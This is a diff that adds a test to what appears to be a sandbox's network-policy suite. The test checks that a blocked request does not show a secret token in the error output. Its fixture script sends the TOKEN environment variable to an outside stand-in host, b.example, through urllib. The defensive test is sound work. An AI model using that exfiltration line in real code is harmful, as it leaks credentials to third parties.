@@ -312,6 +312,20 @@ def test_there_is_no_way_out_but_to_the_listed_hosts(setups: Setups) -> None:
     } <= set(told)  # fmt: skip
 
 
+def test_a_secret_in_what_the_proxy_refused_is_not_shown(setups: Setups) -> None:
+    (setups.workspace / "probe.py").write_text(
+        "import os, urllib.request\n"
+        "urllib.request.urlopen('http://b.example/' + os.environ['TOKEN'])\n"
+    )
+    policy = setups.policy(
+        "python3 probe.py", inputs=("probe.py",), network=("a.example",), secrets=("TOKEN",)
+    )
+    with pytest.raises(SetupFailed) as caught:
+        setups.make(policy, {"TOKEN": SECRET})
+    assert "  GET http://b.example/[TOKEN]" in str(caught.value).splitlines()
+    assert SECRET not in str(caught.value)
+
+
 def test_its_way_out_goes_with_it(setups: Setups, engine: Engine) -> None:
     ways: list[str] = []
 
